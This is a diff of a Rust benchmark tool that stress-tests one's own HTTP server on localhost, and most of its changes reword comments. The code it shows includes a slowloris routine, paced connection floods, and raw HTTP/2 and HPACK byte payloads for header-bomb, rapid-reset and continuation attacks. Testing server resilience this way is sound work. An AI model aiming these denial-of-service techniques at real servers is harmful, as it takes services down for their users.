@@ -1,15 +1,15 @@
-//! Attacks a server of HTTP, for `proof/benches/attacks.sh`: only ever one of your own.
+//! Attacks an HTTP server, for `proof/benches/attacks.sh`. Use it only on a server of your own.
 //!
-//! `attack KIND PORT SECONDS [RATE]`, on 127.0.0.1. Prints how many connections it opened. KIND,
-//! with what RATE is and its default:
+//! `attack KIND PORT SECONDS [RATE]`, on 127.0.0.1. Prints how many connections it opened. The
+//! kinds, with the meaning of RATE and its default:
 //!
-//! * `slowloris`, `slowloris-burst`: so many connections (1,000) send a byte of a header each
-//!   second, evenly or all at once, and come again when they are closed.
-//! * `connect-reset`: so many connections a second (10,000) come, and are reset.
-//! * `header-bomb`, `hpack-bomb`: so many a second (500) send a header of 256 KiB, or one of 12 KiB
-//!   that stands for 40 MiB.
-//! * `rapid-reset`, `continuation`, `settings`, `ping`: so many a second (100) send 20,000 such
-//!   frames each, or as many as they may.
+//! * `slowloris`, `slowloris-burst`: RATE connections (1,000) send a byte of a header each second,
+//!   evenly or all at once, and connect again when they are closed.
+//! * `connect-reset`: RATE connections a second (10,000) are opened and reset.
+//! * `header-bomb`, `hpack-bomb`: RATE connections a second (500) send a header of 256 KiB, or one
+//!   of 12 KiB that stands for 40 MiB.
+//! * `rapid-reset`, `continuation`, `settings`, `ping`: RATE connections a second (100) send 20,000
+//!   such frames each, or as many as they may.
 
 use std::io::{self, Read, Write};
 use std::net::{Ipv4Addr, TcpStream};
@@ -17,14 +17,14 @@ use std::process::ExitCode;
 use std::thread;
 use std::time::{Duration, Instant};
 
-/// Each connection's, of those that send frames.
+/// How many frames a connection sends, if it sends frames.
 const FRAMES: u32 = 20_000;
 const TIMEOUT: Duration = Duration::from_millis(500);
 /// What is sent at once, in bytes.
 const PIECE: usize = 16 << 10;
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-/// GET / of x.
+/// The header of a GET of `/` from the host `x`.
 const GET: &[u8] = b"\x82\x86\x84\x41\x01x";
 const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
@@ -72,7 +72,7 @@ fn attack(kind: &str, port: u16, end: Instant, rate: Option<u32>) -> Option<u64>
             bomb(large)
         }
         "hpack-bomb" => {
-            // A field that is remembered, and then named by a byte each time.
+            // A field that the server keeps, and to which a byte then refers each time.
             let mut block = [GET, b"\x40\x01x\x7f\x81\x1e"].concat();
             block.extend([b'y'; 3968]);
             block.extend([0xbe; 10_000]);
@@ -93,7 +93,7 @@ fn attack(kind: &str, port: u16, end: Instant, rate: Option<u32>) -> Option<u64>
     })
 }
 
-/// Does something so many times a second, on four threads; failures are the server's answer.
+/// Does something `rate` times a second, on four threads. Failures are the server's answer.
 fn paced(end: Instant, rate: u32, what: impl Fn() -> io::Result<()> + Sync) -> u64 {
     const THREADS: u32 = 4;
     let step = Duration::from_secs(1) * THREADS / rate.max(1);
@@ -112,15 +112,15 @@ fn paced(end: Instant, rate: u32, what: impl Fn() -> io::Result<()> + Sync) -> u
     })
 }
 
-/// When the connections of a slowloris send theirs.
+/// When the connections of a slowloris send their bytes.
 #[derive(Clone, Copy, PartialEq)]
 enum Bytes {
-    /// One behind the other, spread over the second, as many clients would.
+    /// One after the other, spread over the second, as many clients would.
     Evenly,
     AllAtOnce,
 }
 
-/// A byte a second on each.
+/// Sends a byte a second on each connection.
 fn slowloris(port: u16, end: Instant, connections: u32, bytes: Bytes) -> u64 {
     let mut opened = 0;
     let mut open = || -> io::Result<TcpStream> {
